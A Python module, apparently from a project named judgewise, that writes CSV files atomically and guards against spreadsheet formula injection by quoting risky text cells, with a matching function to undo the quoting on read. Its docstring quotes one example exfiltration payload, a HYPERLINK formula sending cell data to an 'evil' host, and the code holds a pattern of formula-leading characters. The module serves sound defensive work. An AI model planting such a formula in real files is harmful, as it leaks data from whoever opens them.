"""Every CSV file judgewise writes: atomically, with text a spreadsheet would run as a formula neutralised (OWASP).

A spreadsheet opening a CSV runs a cell that begins with ``=``, ``+``, ``-`` or ``@`` as a formula (and a leading
tab or carriage return hides such a start), so a model name like ``=HYPERLINK("http://evil/?"&A1)`` from an input
file, or a labeller name typed on the labelling page, would run on the reader's machine. As OWASP's "CSV
Injection" page recommends, such a text cell is written with a single quote in front (``'=HYPERLINK(...)``), which
a spreadsheet shows as the text it is. Numbers are not text: a number column is written as it is, and a text cell
that is a plain decimal number (``-0.5``, ``+3``, ``-1e-3``) stays a number. A cell that already begins with
quotes before such a character gets one more, so removing one leading quote always gives the value back: every
CSV reader of judgewise does so (:func:`restore_cell`), so a file judgewise wrote reads back as the values it held
(a response starting ``- item`` or ``=``, a model named ``-x``).
"""

from __future__ import annotations

import re
from pathlib import Path

import pandas as pd

from judgewise.io.atomic import atomic_target

FORMULA_LEADS = ("=", "+", "-", "@", "\t", "\r")
"""First characters that make a spreadsheet run a cell as a formula (OWASP): quoted when a text cell starts so."""

_RISKY = re.compile(r"'*[=+\-@\t\r]")  # the cell starts with a formula character, after any quotes
_NUMBER = re.compile(r"[+-]?(?:\d+\.?\d*|\.\d+)(?:[eE][+-]?\d+)?")  # a plain decimal number: stays a number


def neutralise_cell(value):
    """``value`` as a CSV cell a spreadsheet shows and never runs: a text starting with a formula character
    (:data:`FORMULA_LEADS`, after any quotes) gets a leading ``'`` unless it is a plain decimal number; anything
    else (numbers, missing values, other text) is returned as it is."""
    if isinstance(value, str) and _RISKY.match(value) and not _NUMBER.fullmatch(value):
        return "'" + value
    return value


QUOTED_LEAD = re.compile(r"'" + _RISKY.pattern)  # a cell :func:`neutralise_cell` quoted: one quote, then a risky text


def restore_cell(value):
    """The inverse of :func:`neutralise_cell`, for reading a CSV back: a text that is one ``'`` before a text the
    writer would have quoted loses that quote (``'=x`` → ``=x``, ``''-1`` → ``'-1``); anything else, including
    ``'-1`` (the writer never quotes a number), is returned as it is."""
    if isinstance(value, str) and QUOTED_LEAD.match(value) and not _NUMBER.fullmatch(value[1:]):
        return value[1:]
    return value


def restore_texts(series: pd.Series) -> pd.Series:
    """:func:`restore_cell` over a text column read from a CSV; the column itself when no cell needs it."""
    return _map_matching(series, QUOTED_LEAD, restore_cell)


def neutralise_frame(frame: pd.DataFrame) -> pd.DataFrame:
    """A copy of ``frame`` with every text cell and column name passed through :func:`neutralise_cell`; number,
    boolean and date columns are kept as they are (their cells are no text)."""
    out = frame.copy(deep=False)
    for k, col in enumerate(frame.columns):
        series = frame.iloc[:, k]
        if isinstance(series.dtype, pd.CategoricalDtype):
            series = series.astype(object)
        elif not (pd.api.types.is_object_dtype(series.dtype) or pd.api.types.is_string_dtype(series.dtype)):
            continue
        out.isetitem(k, _neutralise_texts(series))
    out.columns = [neutralise_cell(c) for c in frame.columns]
    return out


def _neutralise_texts(series: pd.Series) -> pd.Series:
    """:func:`neutralise_cell` over a text column."""
    return _map_matching(series, _RISKY, neutralise_cell)


def _map_matching(series: pd.Series, pattern: re.Pattern, cell) -> pd.Series:
    """``cell`` applied to the text cells of ``series`` that start with ``pattern`` (vectorised: only those are
    looked at one by one); the column itself when none does or it holds no text."""
    try:
        matching = series.str.match(pattern.pattern, na=False)
    except AttributeError:  # no text in the column at all (only numbers or missing values)
        return series
    mask = matching.fillna(False).to_numpy(dtype=bool)
    if not mask.any():
        return series
    values = series.to_numpy(dtype=object, copy=True)
    values[mask] = [cell(v) for v in values[mask]]
    return pd.Series(values, index=series.index, name=series.name, dtype=object)


def write_csv(frame: pd.DataFrame, path: str | Path) -> Path:
    """Write ``frame`` (no index) as CSV to ``path``, atomically (:func:`judgewise.io.atomic.atomic_target`), with
    its text neutralised for spreadsheets (:func:`neutralise_frame`)."""
    safe = neutralise_frame(frame)
    with atomic_target(path) as partial:
        safe.to_csv(partial, index=False)
    return Path(path)


__all__ = ["FORMULA_LEADS", "neutralise_cell", "neutralise_frame", "write_csv"]
